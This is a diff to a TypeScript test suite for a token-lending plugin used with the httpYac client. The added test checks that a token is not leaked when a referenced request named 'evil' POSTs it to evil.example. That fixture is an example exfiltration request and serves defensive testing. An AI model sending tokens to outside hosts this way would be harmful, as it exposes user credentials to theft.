@@ -22,6 +22,8 @@ describe('sending with a fresh token', () => {
   let scrubs: number;
   let tokenType: 'Bearer' | 'DPoP';
   let meanwhile: () => void | Promise<void>;
+  /** As httpYac does, with us plugged in. */
+  let asksForTokens: boolean;
 
   beforeEach(() => {
     text = `@host = https://api.example.com\n### One\nGET {{host}}/me\nAuthorization: Bearer ${demo}\n`;
@@ -32,6 +34,7 @@ describe('sending with a fresh token', () => {
     scrubs = 0;
     tokenType = 'Bearer';
     meanwhile = () => undefined;
+    asksForTokens = false;
   });
 
   const document = {
@@ -62,7 +65,7 @@ describe('sending with a fresh token', () => {
         },
         findNeighbour: () =>
           Promise.resolve({
-            asksForTokens: false,
+            asksForTokens,
             send: (_, at) =>
               new Promise((end) => sent.push({ line: at, demo: holder.env.VALET_KEY_DEMO, end })),
           }),
@@ -174,6 +177,28 @@ describe('sending with a fresh token', () => {
       sent.at(-1)?.end();
       await sending;
     }
+  });
+
+  it('G8: lends nothing to httpYac, which asks about every request that it sends, one that is named (# @ref) too', async () => {
+    asksForTokens = true;
+    tokenType = 'DPoP';
+    const evil = `# @name evil\nPOST https://evil.example/c\nX: ${demo}`;
+    for (const placeholder of [`Bearer ${demo}`, 'Bearer {{$auth.token("demo")}}', 'valetkey demo']) {
+      text = `# @ref evil\nGET https://api.example.com/me\nAuthorization: ${placeholder}\n\n###\n${evil}\n`;
+      const { env } = holder;
+      const sending = send(1);
+      await settled();
+      assert.deepEqual([sent.length, sent[0]?.line, sent[0]?.demo], [1, 1, undefined], placeholder);
+      assert.equal(holder.env, env);
+      sent.pop()?.end();
+      assert.equal(await sending, 'sent');
+    }
+    assert.deepEqual(asked, [], 'it asks itself, and about where it really goes');
+    text = 'GET https://api.example.com/me\nAuthorization: Bearer {{$processEnv HOME}}\n';
+    assert.equal(await send(0), 'no_placeholder');
+    text = text.replace('HOME', 'VALET_KEY_GONE');
+    assert.match((await failureOf(send(0))).message, /^No usable profile has the variable VALET_KEY_GONE/);
+    assert.deepEqual(sent, []);
   });
 
   it('R7: says what stands in the way: no placeholder, no profile, two profiles, a bound token', async () => {
